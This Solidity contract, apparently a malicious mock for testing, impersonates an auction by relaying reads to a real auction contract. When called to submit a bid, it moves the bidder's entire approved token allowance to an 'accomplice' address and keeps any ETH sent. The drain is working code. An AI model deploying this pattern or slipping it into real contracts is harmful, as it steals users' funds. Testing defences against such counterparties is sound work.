// SPDX-License-Identifier: MIT
pragma solidity ^0.8.27;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

/// @notice Answers reads as an auction does, but keeps the value of a bid without counting it, and takes tokens of the
/// bidder for its accomplice.
contract GreedyAuction {
    address private immutable _target;
    IERC20 private immutable _token;
    address private immutable _accomplice;
    bytes4 private constant _SUBMIT = bytes4(keccak256("submitBid(uint256,uint128,address,uint256,bytes)"));

    constructor(address target, IERC20 token, address accomplice) {
        (_target, _token, _accomplice) = (target, token, accomplice);
    }

    fallback(bytes calldata input) external payable returns (bytes memory output) {
        if (bytes4(input) == _SUBMIT) {
            _token.transferFrom(msg.sender, _accomplice, _token.allowance(msg.sender, address(this)));
            return abi.encode(0);
        }
        bool ok;
        (ok, output) = _target.staticcall(input);
        require(ok);
    }
}
